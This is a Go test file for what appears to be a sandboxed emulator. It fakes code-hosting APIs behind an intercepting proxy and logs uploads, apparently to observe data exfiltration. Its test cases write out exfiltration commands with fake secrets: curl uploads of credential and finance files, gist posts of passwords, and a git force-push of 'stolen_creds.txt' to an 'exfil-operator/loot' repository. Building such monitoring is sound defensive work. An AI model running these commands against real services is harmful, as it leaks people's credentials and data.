@@ -1,0 +1,336 @@
+package emulator
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"crypto/tls"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newTestEmulator(t *testing.T, cfg Config) *Emulator {
+	t.Helper()
+	ca, err := NewCA("test")
+	require.NoError(t, err)
+	if cfg.DataDir == "" {
+		cfg.DataDir = t.TempDir()
+	}
+	e, err := New(cfg, ca)
+	require.NoError(t, err)
+	t.Cleanup(func() { assert.NoError(t, e.Close()) })
+	return e
+}
+
+func sha(b []byte) string {
+	s := sha256.Sum256(b)
+	return hex.EncodeToString(s[:])
+}
+
+func TestHandlers(t *testing.T) {
+	secret := []byte("AKIAFAKEFAKEFAKE\nsecret=not-a-real-secret\n")
+	contents := func(content string) string {
+		return `{"message":"backup","content":"` + content + `"}`
+	}
+	cases := []struct {
+		name, host, method, path, body string
+		token                          bool
+		wantStatus                     int
+		wantBody                       string
+		wantFiles                      []File
+	}{
+		{"contents created", "api.github.com", "PUT", "/repos/o/r/contents/loot/creds.txt",
+			contents(base64.StdEncoding.EncodeToString(secret)), true, 201, `"sha": "` + gitBlobSHA(secret), []File{NewFile("loot/creds.txt", secret)}},
+		{"contents base64 wrapped over lines", "api.github.com", "PUT", "/repos/o/r/contents/wrapped.txt",
+			contents(`QUtJQUZBS0VG\nQUtFRkFLRQo=`), true, 201, "", []File{NewFile("wrapped.txt", []byte("AKIAFAKEFAKEFAKE\n"))}},
+		{"contents bad base64", "api.github.com", "PUT", "/repos/o/r/contents/x", contents("%%%not base64"), true, 422, "content is not valid Base64", nil},
+		{"contents missing message", "api.github.com", "PUT", "/repos/o/r/contents/x", `{"content":"eA=="}`, true, 422, `\"message\" wasn't supplied`, nil},
+		{"contents bad json", "api.github.com", "PUT", "/repos/o/r/contents/x", `{`, true, 400, "Problems parsing JSON", nil},
+		{"contents without token", "api.github.com", "PUT", "/repos/o/r/contents/x", contents("eA=="), false, 401, "Requires authentication", nil},
+		{"contents wrong method", "api.github.com", "DELETE", "/repos/o/r/contents/x", "", true, 404, `"message": "Not Found"`, nil},
+		{"gist created", "api.github.com", "POST", "/gists", `{"public":false,"files":{"creds.txt":{"content":"pw=hunter2\n"}}}`, true, 201,
+			`"html_url": "https://gist.github.com/`, []File{NewFile("creds.txt", []byte("pw=hunter2\n"))}},
+		{"gist without files", "api.github.com", "POST", "/gists", `{"files":{}}`, true, 422, "missing_field", nil},
+		{"gist empty content", "api.github.com", "POST", "/gists", `{"files":{"a":{"content":""}}}`, true, 422, "files.a.content", nil},
+		{"gist without token", "api.github.com", "POST", "/gists", `{"files":{"a":{"content":"x"}}}`, false, 401, "Requires authentication", nil},
+		{"user", "api.github.com", "GET", "/user", "", true, 200, `"login": "exfil-operator"`, nil},
+		{"user without token", "api.github.com", "GET", "/user", "", false, 401, "", nil},
+		{"create repo", "api.github.com", "POST", "/user/repos", `{"name":"loot","private":true}`, true, 201, `"clone_url": "https://github.com/exfil-operator/loot.git"`, nil},
+		{"unknown api path", "api.github.com", "GET", "/nope", "", true, 404, "https://docs.github.com/rest", nil},
+		{"github web unknown", "github.com", "GET", "/nope", "", false, 404, "Page not found", nil},
+		{"gitlab api unknown", "gitlab.com", "GET", "/api/v4/nope", "", true, 404, `"error": "404 Not Found"`, nil},
+		{"gitlab file", "api.gitlab.com", "POST", "/api/v4/projects/42/repository/files/a.txt",
+			`{"branch":"main","commit_message":"m","encoding":"base64","content":"eA=="}`, true, 201, "", []File{NewFile("a.txt", []byte("x"))}},
+		{"gitlab snippet", "gitlab.com", "POST", "/api/v4/snippets", `{"title":"t","files":[{"file_path":"s.txt","content":"y"}]}`, true, 201, "", []File{NewFile("s.txt", []byte("y"))}},
+		{"bitbucket api unknown", "api.bitbucket.org", "GET", "/2.0/nope", "", true, 404, "Resource not found", nil},
+		{"codeberg contents", "codeberg.org", "POST", "/api/v1/repos/o/r/contents/c.txt", `{"content":"eg==","message":"m"}`, true, 201, "", []File{NewFile("c.txt", []byte("z"))}},
+		{"codeberg api unknown", "codeberg.org", "GET", "/api/v1/nope", "", true, 404, "api/swagger", nil},
+		{"azure devops unknown", "dev.azure.com", "GET", "/org", "", false, 404, "Azure DevOps", nil},
+	}
+	e := newTestEmulator(t, Config{})
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			mark := e.Ledger().Mark()
+			req := httptest.NewRequest(tc.method, "https://"+tc.host+tc.path, strings.NewReader(tc.body))
+			if tc.token {
+				req.Header.Set("Authorization", "token ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE")
+			}
+			req.Header.Set("User-Agent", "test-agent/1")
+			rec := httptest.NewRecorder()
+			e.Handler().ServeHTTP(rec, req)
+			assert.Equal(t, tc.wantStatus, rec.Code, rec.Body.String())
+			assert.Contains(t, rec.Body.String(), tc.wantBody)
+
+			entries := e.Ledger().Since(mark)
+			require.Len(t, entries, 1)
+			got := entries[0]
+			assert.Equal(t, tc.host, got.Host)
+			assert.Equal(t, tc.method, got.Method)
+			assert.Equal(t, tc.path, got.Path)
+			assert.Equal(t, tc.wantStatus, got.Status)
+			assert.Equal(t, int64(len(tc.body)), got.BytesReceived)
+			assert.Equal(t, "test-agent/1", got.UserAgent)
+			if tc.token {
+				assert.Equal(t, "token", got.AuthScheme)
+			}
+			assert.ElementsMatch(t, tc.wantFiles, got.Files)
+			raw, err := json.Marshal(got)
+			require.NoError(t, err)
+			assert.NotContains(t, string(raw), "ghp_FAKE", "the ledger must never hold the token")
+		})
+	}
+}
+
+func TestContentsReplaceNeedsSHA(t *testing.T) {
+	e := newTestEmulator(t, Config{})
+	put := func(body string) int {
+		req := httptest.NewRequest("PUT", "https://api.github.com/repos/o/r/contents/f", strings.NewReader(body))
+		req.Header.Set("Authorization", "Bearer x")
+		rec := httptest.NewRecorder()
+		e.Handler().ServeHTTP(rec, req)
+		return rec.Code
+	}
+	assert.Equal(t, 201, put(`{"message":"m","content":"eA=="}`))
+	assert.Equal(t, 422, put(`{"message":"m","content":"eA=="}`), "replacing without sha")
+	assert.Equal(t, 409, put(`{"message":"m","content":"eA==","sha":"0000"}`), "replacing with a wrong sha")
+	assert.Equal(t, 200, put(`{"message":"m","content":"eQ==","sha":"`+gitBlobSHA([]byte("x"))+`"}`))
+}
+
+func TestBodyOverLimit(t *testing.T) {
+	e := newTestEmulator(t, Config{MaxBody: 64})
+	big := `{"message":"m","content":"` + strings.Repeat("QUFB", 100) + `"}`
+	for _, chunked := range []bool{false, true} {
+		req := httptest.NewRequest("PUT", "https://api.github.com/repos/o/r/contents/f", strings.NewReader(big))
+		if chunked {
+			req.ContentLength = -1 // the limit must hold without a declared length too
+		}
+		req.Header.Set("Authorization", "token x")
+		rec := httptest.NewRecorder()
+		e.Handler().ServeHTTP(rec, req)
+		assert.Equal(t, http.StatusRequestEntityTooLarge, rec.Code, "chunked=%v", chunked)
+	}
+	entries := e.Ledger().Entries()
+	require.Len(t, entries, 2)
+	for _, en := range entries {
+		assert.Equal(t, 413, en.Status)
+		assert.Empty(t, en.Files)
+	}
+}
+
+func TestConcurrentRequests(t *testing.T) {
+	e := newTestEmulator(t, Config{})
+	const n = 64
+	done := make(chan int, n)
+	for i := range n {
+		go func() {
+			body := `{"files":{"f` + strings.Repeat("x", i%5) + `.txt":{"content":"c"}}}`
+			req := httptest.NewRequest("POST", "https://api.github.com/gists", strings.NewReader(body))
+			req.Header.Set("Authorization", "token x")
+			rec := httptest.NewRecorder()
+			e.Handler().ServeHTTP(rec, req)
+			done <- rec.Code
+		}()
+	}
+	for range n {
+		assert.Equal(t, 201, <-done)
+	}
+	entries := e.Ledger().Entries()
+	require.Len(t, entries, n)
+	for i, en := range entries {
+		assert.Equal(t, int64(i+1), en.Seq, "sequence numbers are dense and ordered")
+	}
+}
+
+// proxyFixture runs the emulator's CONNECT proxy on loopback and writes the
+// CA for real clients.
+type proxyFixture struct {
+	e      *Emulator
+	url    string
+	caFile string
+	env    []string
+}
+
+func startProxy(t *testing.T) *proxyFixture {
+	t.Helper()
+	e := newTestEmulator(t, Config{})
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- e.ServeProxy(ctx, l) }()
+	t.Cleanup(func() {
+		cancel()
+		assert.NoError(t, <-done)
+	})
+	caFile := filepath.Join(t.TempDir(), "ca.pem")
+	require.NoError(t, os.WriteFile(caFile, e.CA().PEM(), 0o600))
+	url := "http://" + l.Addr().String()
+	home := t.TempDir()
+	env := []string{
+		"PATH=" + os.Getenv("PATH"), "HOME=" + home, "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0",
+		"HTTPS_PROXY=" + url, "https_proxy=" + url, "HTTP_PROXY=" + url, "http_proxy=" + url, "ALL_PROXY=" + url,
+		"SSL_CERT_FILE=" + caFile, "CURL_CA_BUNDLE=" + caFile, "GIT_SSL_CAINFO=" + caFile,
+	}
+	return &proxyFixture{e: e, url: url, caFile: caFile, env: env}
+}
+
+func (p *proxyFixture) run(t *testing.T, dir string, name string, args ...string) (string, error) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, name, args...)
+	cmd.Dir = dir
+	cmd.Env = p.env
+	out, err := cmd.CombinedOutput()
+	return string(out), err
+}
+
+func TestProxyCurlContentsPUT(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl not installed")
+	}
+	p := startProxy(t)
+	content := []byte("account,balance\nACME,1000000\n")
+	body := `{"message":"x","content":"` + base64.StdEncoding.EncodeToString(content) + `"}`
+	out, err := p.run(t, t.TempDir(), "curl", "-sS", "--fail-with-body", "-X", "PUT",
+		"-H", "Authorization: token ghp_FAKE", "--data-binary", body,
+		"https://api.github.com/repos/o/r/contents/finance.csv")
+	require.NoError(t, err, out)
+	assert.Contains(t, out, gitBlobSHA(content))
+
+	entries := p.e.Ledger().Entries()
+	require.Len(t, entries, 2, "the CONNECT and the PUT")
+	assert.Equal(t, "CONNECT", entries[0].Method)
+	assert.Equal(t, "api.github.com", entries[0].Host)
+	put := entries[1]
+	assert.Equal(t, "PUT", put.Method)
+	assert.Equal(t, "api.github.com", put.SNI)
+	assert.Equal(t, entries[0].ClientPort, put.ClientPort, "the tunnel's requests carry the client socket that opened it")
+	assert.Equal(t, "127.0.0.1", put.ClientIP)
+	require.Len(t, put.Files, 1)
+	assert.Equal(t, sha(content), put.Files[0].SHA256)
+}
+
+func TestProxyRefusesOtherHosts(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("curl not installed")
+	}
+	p := startProxy(t)
+	for _, target := range []string{"https://example.com/", "http://example.com/", "https://api.github.com:8443/", "https://140.82.112.3/"} {
+		out, err := p.run(t, t.TempDir(), "curl", "-sS", "--fail", "--max-time", "20", target)
+		require.Error(t, err, "curl %s must fail: %s", target, out)
+	}
+	entries := p.e.Ledger().Entries()
+	require.Len(t, entries, 4)
+	for _, en := range entries {
+		assert.True(t, en.Refused, "%+v", en)
+		assert.Equal(t, http.StatusForbidden, en.Status)
+	}
+	assert.Equal(t, "example.com", entries[0].Host)
+	assert.Equal(t, "GET", entries[1].Method, "plain http through the proxy is refused too")
+}
+
+func TestProxyGitPush(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	p := startProxy(t)
+	work := t.TempDir()
+	files := map[string][]byte{
+		"stolen_creds.txt":     []byte("admin:Winter2024!\n"),
+		"finance/q3.csv":       []byte("q,rev\n3,42\n"),
+		"binary.bin":           {0, 1, 2, 255, 254, '\n', 0},
+		"with space/name.text": bytes.Repeat([]byte("y"), 100000),
+	}
+	for name, c := range files {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(work, name)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(work, name), c, 0o600))
+	}
+	for _, args := range [][]string{
+		{"init", "-q"}, {"add", "-A"},
+		{"-c", "user.name=x", "-c", "user.email=x@example.invalid", "commit", "-qm", "loot"},
+		{"push", "--force", "https://x-access-token:ghp_FAKE@github.com/exfil-operator/loot.git", "HEAD:refs/heads/main"},
+	} {
+		out, err := p.run(t, work, "git", args...)
+		require.NoError(t, err, "git %v: %s", args, out)
+	}
+	var pushed []File
+	for _, en := range p.e.Ledger().Entries() {
+		assert.False(t, en.Refused, "%+v", en)
+		if strings.HasSuffix(en.Path, "/git-receive-pack") && en.Method == "POST" {
+			pushed = append(pushed, en.Files...)
+			assert.Equal(t, "basic", en.AuthScheme)
+			assert.Contains(t, en.Note, "push refs/heads/main")
+		}
+	}
+	var want []File
+	for name, c := range files {
+		want = append(want, NewFile(name, c))
+	}
+	assert.ElementsMatch(t, want, pushed)
+
+	// And the repository is a real one: it clones back.
+	out, err := p.run(t, t.TempDir(), "git", "clone", "-q", "https://github.com/exfil-operator/loot.git", "back")
+	require.NoError(t, err, out)
+}
+
+func TestServeTLSUsesSNI(t *testing.T) {
+	e := newTestEmulator(t, Config{})
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- e.ServeTLS(ctx, l) }()
+	defer func() { cancel(); assert.NoError(t, <-done) }()
+
+	client := &http.Client{Transport: &http.Transport{
+		TLSClientConfig: &tls.Config{RootCAs: e.CA().Pool()},
+		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return (&net.Dialer{}).DialContext(ctx, "tcp", l.Addr().String())
+		},
+	}}
+	req, err := http.NewRequest("GET", "https://api.github.com/user", nil)
+	require.NoError(t, err)
+	req.Header.Set("Authorization", "token x")
+	resp, err := client.Do(req)
+	require.NoError(t, err)
+	_ = resp.Body.Close()
+	assert.Equal(t, 200, resp.StatusCode)
+	entries := e.Ledger().Entries()
+	require.Len(t, entries, 1)
+	assert.Equal(t, "api.github.com", entries[0].Host)
+	assert.Equal(t, "api.github.com", entries[0].SNI)
+}
